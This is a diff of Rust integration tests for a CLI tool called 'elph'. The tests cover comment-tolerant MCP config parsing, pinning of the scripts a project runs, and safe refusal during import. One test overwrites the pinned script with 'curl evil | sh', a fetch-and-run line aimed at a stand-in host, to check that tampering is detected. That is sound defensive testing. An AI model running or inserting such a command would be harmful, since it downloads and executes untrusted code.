@@ -335,3 +335,127 @@ fn doctor_names_other_clients_mcp_files_and_how_to_import_them() {
     // The workspace settings.json is not a file doctor looks for; .mcp.json is read, not named.
     assert!(!stdout.contains("settings.json has MCP servers"), "{stdout}");
 }
+
+/// An mcp.json as people write VS Code's: comments, and trailing commas.
+fn commented_mcp_json(command: &str, args: &[String], started: &Path) -> String {
+    format!(
+        r#"{{
+  // The project's servers.
+  "mcpServers": {{
+    /* a test server, standing in for a published one */
+    "notes": {{
+      "command": {command},
+      "args": {args},
+      "env": {{ "MCP_TEST_STARTED": {started}, }},
+    }},
+  }},
+}}
+"#,
+        command = json!(command),
+        args = json!(args),
+        started = json!(started.display().to_string()),
+    )
+}
+
+#[tokio::test]
+async fn mcp_json_with_comments_and_trailing_commas_loads_and_what_it_runs_is_pinned() {
+    let env = TestEnv::new();
+    let evidence = env.evidence("servers");
+    std::fs::create_dir_all(&evidence).unwrap();
+    // A project server run through a script of the project: the script must be pinned even
+    // though the file naming it has comments.
+    let script = env.project.join("tools/server.sh");
+    std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+    std::fs::write(
+        &script,
+        format!("#!/bin/sh\nexec '{}' \"$@\"\n", mcp_test_server()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let project_file = env.project.join(".elph/mcp.json");
+    std::fs::create_dir_all(project_file.parent().unwrap()).unwrap();
+    std::fs::write(
+        &project_file,
+        commented_mcp_json(
+            "/bin/sh",
+            &["tools/server.sh".into()],
+            &evidence.join("project.jsonl"),
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        env.config_dir.join("mcp.json"),
+        commented_mcp_json(&mcp_test_server(), &[], &evidence.join("home.jsonl"))
+            .replace("\"notes\"", "\"home-notes\""),
+    )
+    .unwrap();
+    assert!(elph_cli(&env, &["trust"]).status.success());
+
+    let server = FakeModelServer::start(Wire::OpenAi).await;
+    server.enqueue(super::mcp::wait_for_servers());
+    server.enqueue(FakeReply::text("ok"));
+    let output = run_elph(&env, &server, &["hello"]).await;
+    let stderr = text(&output.stderr);
+    assert!(output.status.success(), "{stderr}");
+    assert!(!stderr.contains("malformed"), "{stderr}");
+    assert_eq!(json_lines(&evidence.join("home.jsonl")).len(), 1, "{stderr}");
+    assert_eq!(json_lines(&evidence.join("project.jsonl")).len(), 1, "{stderr}");
+    let tools = super::mcp::tool_names(&server.requests()[1]);
+    assert!(
+        tools.iter().any(|name| name.starts_with("mcp_notes__"))
+            && tools.iter().any(|name| name.starts_with("mcp_home-notes__")),
+        "{tools:?}"
+    );
+
+    // The script the commented file names is pinned: changing it turns the project off.
+    std::fs::write(&script, "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let status: Value =
+        serde_json::from_slice(&elph_cli(&env, &["trust", "--status", "--json"]).stdout).unwrap();
+    assert_eq!(
+        status["pin"]["changes"]["files"],
+        json!([{"path": "tools/server.sh", "change": "changed"}]),
+        "{status}"
+    );
+}
+
+#[test]
+fn a_broken_commented_mcp_json_names_its_line_and_import_keeps_its_comments() {
+    let env = TestEnv::new();
+    let home_file = env.config_dir.join("mcp.json");
+    // Line 5 lacks a comma; the comments before it must not shift the line number.
+    let broken = "{\n  // servers\n  /* two\n     lines */\n  \"mcpServers\": {} \"x\": 1\n}\n";
+    std::fs::write(&home_file, broken).unwrap();
+    let output = elph_cli(&env, &["doctor"]);
+    let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
+    assert!(all.contains("line 5"), "{all}");
+
+    // A stray `/` that starts no comment is an error at its line too.
+    std::fs::write(&home_file, "{\n  \"mcpServers\": {},\n  / \n}\n").unwrap();
+    let output = elph_cli(&env, &["doctor"]);
+    let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
+    assert!(all.contains("line 3"), "{all}");
+
+    // `--write` would rewrite the file as plain JSON: it refuses, and the file is as it was.
+    let commented = "{\n  // mine\n  \"mcpServers\": {},\n}\n";
+    std::fs::write(&home_file, commented).unwrap();
+    let cursor = env.home.join(".cursor/mcp.json");
+    std::fs::create_dir_all(cursor.parent().unwrap()).unwrap();
+    std::fs::write(&cursor, r#"{"mcpServers": {"git": {"command": "/bin/true"}}}"#).unwrap();
+    let cursor_arg = cursor.display().to_string();
+    let output = elph_cli(&env, &["mcp", "import", &cursor_arg, "--write"]);
+    assert!(!output.status.success(), "{output:?}");
+    let stderr = text(&output.stderr);
+    assert!(
+        stderr.contains("has comments, which writing it again would lose; nothing was imported"),
+        "{stderr}"
+    );
+    assert_eq!(std::fs::read_to_string(&home_file).unwrap(), commented);
+    // Without --write it shows what it would add.
+    let output = elph_cli(&env, &["mcp", "import", &cursor_arg]);
+    assert!(output.status.success(), "{output:?}");
+    assert!(
+        text(&output.stdout).contains("\"git\""),
+        "{}",
+        text(&output.stdout)
+    );
+}
